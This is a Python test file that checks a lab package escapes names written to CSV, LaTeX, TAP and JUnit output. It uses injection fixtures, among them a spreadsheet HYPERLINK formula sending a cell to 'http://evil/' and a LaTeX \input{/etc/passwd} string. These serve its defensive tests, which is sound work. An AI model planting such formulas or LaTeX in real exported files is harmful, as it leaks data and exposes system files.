# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Hostile texts in tables, LaTeX, TAP and JUnit, and that one module alone quotes."""

from __future__ import annotations

import ast
import csv
import io
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from xml.etree import ElementTree

import pandas as pd
import pytest

import perigee_lab as perigee
import perigee_studies
from perigee_lab.common import names, quoting
from perigee_lab.judge import formats
from perigee_lab.judge.expectations import Expectation
from perigee_lab.judge.verdicts import Finding, Verdict
from perigee_lab.results.comparison import Comparison
from perigee_lab.results.paired import Paired
from perigee_studies.conclude import read_csv, write_csv

FORMULAS = ["=1+1", '=HYPERLINK("http://evil/"&A1)', "@SUM(1)", "+x", "-x", "'=1", "''-x", "\tx"]
LATEX = '\\input{/etc/passwd}$x^2~|<>%#&_"\\"'


def functions(text: str) -> Iterator[tuple[str, set[str]]]:
    """Source and names of calls of each function of a module."""
    tree = ast.parse(text)
    for function in ast.walk(tree):
        if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)):
            source = ast.get_source_segment(text, function) or ""
            calls = {ast.unparse(c.func) for c in ast.walk(function) if isinstance(c, ast.Call)}
            yield source, calls


@pytest.mark.parametrize("package", [perigee, perigee_studies])
def test_only_one_module_quotes(package: ModuleType) -> None:
    root = Path(str(package.__file__)).parent
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "quoting.py":
            continue
        assert "html.escape" not in text, path
        assert "import shlex" not in text, path
        assert "markup import escape" not in text, path
        # Tables of pandas are written by `quoting.csv_frame`; a method of ours has no arguments.
        assert text.count(".to_csv(") == text.count("found.to_csv()"), path
        for source, calls in functions(text):
            if calls & {"csv.DictWriter", "csv.writer", "DictWriter", "writer"}:
                assert "quoting.csv" in source or "_cell(" in source, (path, source)


@pytest.mark.parametrize("package", [perigee, perigee_studies])
def test_every_page_has_a_policy(package: ModuleType) -> None:
    pages = 0
    for path in Path(str(package.__file__)).parent.rglob("*"):
        if path.suffix in (".py", ".html") and "<!doctype" in (text := path.read_text(encoding="utf-8")).lower():
            assert "Content-Security-Policy" in text, path
            pages += 1
    assert pages >= {perigee: 7, perigee_studies: 1}[package]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_table_of_pandas_has_no_formulas_and_is_read_back(name: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({name: [1.5, -2.5], "cc": [name, "plain"], "mixed": [name, -1.0], "n": [-1, 2]})
    text = quoting.csv_frame(frame, "%.9g")
    for row in csv.reader(io.StringIO(text)):
        assert not [c for c in row if c[0] in "=@\t" or (c[0] in "+-" and quoting.csv(c) != c)]
    assert frame["cc"][0] == name, "the table itself stays as it is"
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == text
    shown = names.visible(name)
    found = read_csv(tmp_path / "t.csv")
    assert list(found.columns) == [shown, "cc", "mixed", "n"]
    assert found["cc"].tolist() == [shown, "plain"]
    assert found["mixed"].tolist()[0] == shown
    assert found["n"].tolist() == [-1, 2]


def test_tables_without_formulas_are_those_of_pandas() -> None:
    frame = pd.DataFrame({"a": ["x", None, "-1.5"], "b": [1.23456789012, float("nan"), -2.0], "c": [True, False, True]})
    assert quoting.csv_frame(frame, "%.7g") == frame.to_csv(index=False, float_format="%.7g", lineterminator="\n")


def difference(a: str, b: str) -> Comparison:
    return Comparison([Paired("goodput_mbps", a, b, {1: 1.0, 2: 2.0}, 1.5, 1.0, 2.0, 0.01, corrected_p=0.02)])


@pytest.mark.parametrize("name", FORMULAS)
def test_a_comparison_has_no_formulas(name: str) -> None:
    [row] = csv.DictReader(io.StringIO(difference(name, "cubic").to_csv()))
    assert row["a"] == quoting.csv(name) != name or name.startswith("'")
    assert quoting.from_csv(row["a"]) == names.visible(name)
    assert row["mean"] == "1.5"


def test_no_name_is_a_command_of_latex() -> None:
    text = difference(LATEX, "cubic").to_latex()
    plain = difference("A", "cubic").to_latex()
    assert text == plain.replace("A $-$", f"{quoting.latex(LATEX)} $-$")
    for command in (r"\input", r"\"", "^2", "~|", "}$x"):
        assert command not in text
    assert quoting.latex(r"\a~^") == r"\textbackslash{}a\textasciitilde{}\textasciicircum{}"
    assert quoting.latex("a_b & 5 %") == r"a\_b \& 5 \%"
    assert quoting.latex("a\nb\x1b") == r"a\textbackslash{}nb\textbackslash{}x1b"


TITLES = [
    r"x \# TODO later",
    r"x \\# SKIP",
    "x # TODO",
    "x\\",
    "ok 2 - y\nok 3 - z",
    "a\uffffb",
    "a\ufffeb",
    "a\x00b\ud800",
]


@pytest.mark.parametrize("title", TITLES)
def test_a_title_changes_no_verdict_of_tap(title: str, tmp_path: Path) -> None:
    failed = Finding(
        Expectation("goodput", {"title": title, "at_least": 1.0}, "s.toml, line 1"), title, Verdict.FAILED, 0.0
    )
    skipped = Finding(failed.expectation, "cubic", Verdict.NOT_OBSERVABLE)
    text = formats.as_tap({title: [failed, skipped]}, {title: title})
    lines = [line for line in text.splitlines() if line.startswith(("ok", "not ok"))]
    assert [line.split()[0] for line in lines] == ["not", "not", "ok"]
    # As readers do: a directive follows the first # that an even number of backslashes precedes.
    bare = [line.replace("\\\\", "").replace("\\#", "") for line in lines]
    assert ["#" in line for line in bare] == [False, False, True]
    if shutil.which("prove") is None:
        return
    (tmp_path / "t.tap").write_text(text, encoding="utf-8", errors="surrogatepass")
    done = subprocess.run(["prove", "--exec", "cat", tmp_path / "t.tap"], capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "Failed tests:  1-2" in done.stdout


@pytest.mark.parametrize("title", TITLES)
def test_junit_is_xml_whatever_the_title(title: str) -> None:
    finding = Finding(
        Expectation("goodput", {"title": title, "at_least": 1.0}, title), title, Verdict.FAILED, 0.0, detail=title
    )
    text = formats.as_junit({title: [finding]}, {title: title})
    root = ElementTree.fromstring(text.encode("utf-8"))
    [suite] = root
    assert (suite.get("failures"), suite.get("errors")) == ("1", "1")
    cases = [c for c in suite if c.tag == "testcase"]
    assert len(cases) == 2
    if title.isascii() and title.isprintable():
        assert cases[1].get("name", "").startswith(title)
